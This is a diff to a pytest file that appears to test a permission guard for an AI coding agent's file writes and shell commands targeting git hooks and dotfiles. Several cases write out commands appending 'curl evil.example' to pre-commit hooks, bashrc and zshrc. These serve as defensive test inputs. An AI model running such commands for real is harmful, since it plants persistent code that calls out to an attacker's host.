@@ -187,10 +187,10 @@ def dotfiles(tmp_path_factory: pytest.TempPathFactory) -> World3:
 # ----------------------------------------------------------------------------- cases
 
 LINKED = [
-    _ch("Write", {"file_path": "scripts/pre-commit", "content": EVIL}, "ask", HOOK_LINK),
-    _bh("echo 'curl evil.example' >> scripts/pre-commit", "ask", HOOK_LINK),
-    _ch("Write", {"file_path": "githooks/pre-push", "content": EVIL}, "ask", HOOK_LINK),
-    _bh("echo 'curl evil.example' >> notes.sh", "ask", HARD_LINK),
+    _case("Write", {"file_path": "scripts/pre-commit", "content": EVIL}, "ask"),
+    _bash("echo 'curl evil.example' >> scripts/pre-commit", "ask"),
+    _case("Write", {"file_path": "githooks/pre-push", "content": EVIL}, "ask"),
+    _bash("echo 'curl evil.example' >> notes.sh", "ask"),
     _ch("Write", {"file_path": "scripts/fmt.sh", "content": EVIL}, "ask", CLAUDE_HOOK_SCRIPT),
     # held: the include chain, a link to .git, a dangling link to a hook, /proc spellings
     _case("Write", {"file_path": "team.gitconfig", "content": "[core]\n"}, "ask"),
@@ -203,16 +203,16 @@ LINKED = [
 ]
 
 HOOKDIR = [
-    _ch("Write", {"file_path": "hooks/pre-commit", "content": EVIL}, "ask", HOOKS_DIR_LINK),
-    _bh("echo 'curl evil.example' > hooks/pre-commit", "ask", HOOKS_DIR_LINK),
+    _case("Write", {"file_path": "hooks/pre-commit", "content": EVIL}, "ask"),
+    _bash("echo 'curl evil.example' > hooks/pre-commit", "ask"),
     _case("Write", {"file_path": ".git/hooks/pre-commit", "content": EVIL}, "ask"),
 ]
 
 DOTFILES_CASES = [
-    _ch("Write", {"file_path": "dot/claude/settings.json", "content": "{}"}, "ask", DOTFILES),
-    _ch("Write", {"file_path": "dot/gitconfig", "content": "[core]\n"}, "ask", DOTFILES),
-    _bh("echo 'curl evil.example' >> dot/bashrc", "ask", DOTFILES),
-    _bh("echo 'curl evil.example' >> dot/zshrc", "ask", DOTFILES),
+    _case("Write", {"file_path": "dot/claude/settings.json", "content": "{}"}, "ask"),
+    _case("Write", {"file_path": "dot/gitconfig", "content": "[core]\n"}, "ask"),
+    _bash("echo 'curl evil.example' >> dot/bashrc", "ask"),
+    _bash("echo 'curl evil.example' >> dot/zshrc", "ask"),
     _case("Write", {"file_path": "{home}/.bashrc", "content": EVIL}, "ask"),
     _case("Write", {"file_path": "dot/README", "content": "y\n"}, "allow"),
 ]
